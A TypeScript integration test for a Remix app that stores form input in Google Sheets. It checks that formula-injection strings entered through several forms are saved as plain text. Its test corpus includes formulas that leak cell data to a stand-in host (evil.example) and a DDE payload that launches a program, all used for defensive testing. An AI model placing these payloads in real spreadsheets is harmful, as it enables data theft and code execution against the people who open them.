import type { AppLoadContext } from "@remix-run/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { action as contactAction } from "../../app/routes/contact";
import { action as editProfileAction } from "../../app/routes/edit-profile";
import { action as messagesAction } from "../../app/routes/messages";
import { action as postRequestAction } from "../../app/routes/post-request";
import { action as respondAction } from "../../app/routes/referral-requests.$id.respond";
import type { Agent } from "../../app/domain/workbook/tabs";
import { newId } from "../../app/server/store/store.server";
import { startFakeSheets, type FakeSheetsServer } from "../../scripts/lib/fake-sheets/server";
import { insertRequest, outcome, post, sessionCookie } from "../integration/requests-support";
import { requestForm } from "../support/records";
import { insertAgent, postForm, testContext } from "../support/services";

/**
 * Text a spreadsheet would run or reinterpret if it were written as typed by a
 * person (USER_ENTERED): formulas (one calling out to another site), signs and
 * @ that start formulas in other tools, numbers that would lose their zeros.
 */
const CORPUS = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  '=IMPORTXML(CONCAT("https://evil.example/?",B2),"//a")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A9)",
  "=1+1",
  "'=quoted",
  "0012345",
  "=cmd|' /C calc'!A0",
] as const;

const pick = (index: number) => CORPUS[index % CORPUS.length] as string;

let fake: FakeSheetsServer;
let context: AppLoadContext;
let spreadsheetId = "";
let poster: Agent;
let responder: Agent;

beforeAll(async () => {
  fake = await startFakeSheets({ port: 0 });
  spreadsheetId = `formula-${newId()}`;
  // Like Google, the fake serves only spreadsheets that exist.
  fake.spreadsheet(spreadsheetId);
  // The whole corpus goes through the contact form from one address: past the per-address limit.
  context = testContext(
    {},
    {
      GOOGLE_SHEETS_ID: spreadsheetId,
      GOOGLE_SHEETS_API_URL: fake.url,
      SHEETS_WRITE_CALLS_PER_MINUTE: "300",
      CONTACT_PER_IP_PER_HOUR: "1000",
    },
  );
  await context.services.store.refresh();
  poster = await insertAgent(context, { fullName: "Ann Archer" });
  responder = await insertAgent(context, { fullName: "Bob Brooks", password: "correct horse battery" });
});
afterAll(async () => {
  await context.services.store.stop();
  await fake.close();
});

/** The cell as the spreadsheet holds it, by row id and column header. */
function cell(tab: string, id: string, header: string): string {
  return fake.spreadsheet(spreadsheetId).cell(tab, id, header);
}

describe("formula corpus typed into every form is stored as typed (RAW), never run", { timeout: 60_000 }, () => {
  it("contact form", async () => {
    for (let index = 0; index < CORPUS.length; index += 1) {
      const fields = {
        name: pick(index),
        email: "visitor@example.com",
        category: "general",
        subject: pick(index + 1),
        message: pick(index + 2),
      };
      const answer = await outcome(() => contactAction({ request: postForm("/contact", fields), context, params: {} }));
      expect((answer as Response).status, JSON.stringify(fields)).toBe(302);
    }
    const rows = context.services.store.contact.all();
    expect(rows).toHaveLength(CORPUS.length);
    rows.forEach((row, index) => {
      expect(cell("Contact", row.id, "name")).toBe(pick(index));
      expect(cell("Contact", row.id, "subject")).toBe(pick(index + 1));
      expect(cell("Contact", row.id, "message")).toBe(pick(index + 2));
    });
  });

  it("posting a request, responding to it and messaging its poster", async () => {
    const cookie = await sessionCookie(context, poster);
    const fields = requestForm({ title: pick(0), location: pick(2), description: pick(1) });
    const posted = await outcome(() => postRequestAction({ request: post("/post-request", cookie, fields), context, params: {} }));
    expect((posted as Response).status, JSON.stringify(posted)).toBe(302);
    const request = context.services.store.requests.all().find((row) => row.agentEmail === poster.email);
    expect(request).toBeDefined();
    const id = request?.id ?? "";
    expect([cell("Requests", id, "title"), cell("Requests", id, "location"), cell("Requests", id, "description")]).toEqual([
      pick(0),
      pick(2),
      pick(1),
    ]);

    const responderCookie = await sessionCookie(context, responder);
    const target = await insertRequest(context, poster);
    await outcome(() =>
      respondAction({
        request: post(`/referral-requests/${target.id}/respond`, responderCookie, { message: pick(4) }),
        context,
        params: { id: target.id },
      }),
    );
    const response = context.services.store.responses.all().find((row) => row.requestId === target.id);
    expect(cell("Responses", response?.id ?? "", "message")).toBe(pick(4));

    await outcome(() =>
      messagesAction({ request: post(`/messages?to=${poster.id}`, responderCookie, { text: pick(5) }), context, params: {} }),
    );
    const message = context.services.store.messages.all().find((row) => row.text === pick(5));
    expect(cell("Messages", message?.id ?? "", "text")).toBe(pick(5));
  });

  it("editing a profile", async () => {
    const cookie = await sessionCookie(context, responder);
    const fields = { fullName: pick(6), city: pick(7), state: "TX", brokerage: pick(8), bio: pick(0), password: "correct horse battery" };
    const saved = await outcome(() => editProfileAction({ request: post("/edit-profile", cookie, fields), context, params: {} }));
    expect((saved as Response).status).toBe(302);
    expect([
      cell("Agents", responder.id, "fullName"),
      cell("Agents", responder.id, "city"),
      cell("Agents", responder.id, "brokerage"),
      cell("Agents", responder.id, "bio"),
    ]).toEqual([pick(6), pick(7), pick(8), pick(0)]);
  });
});
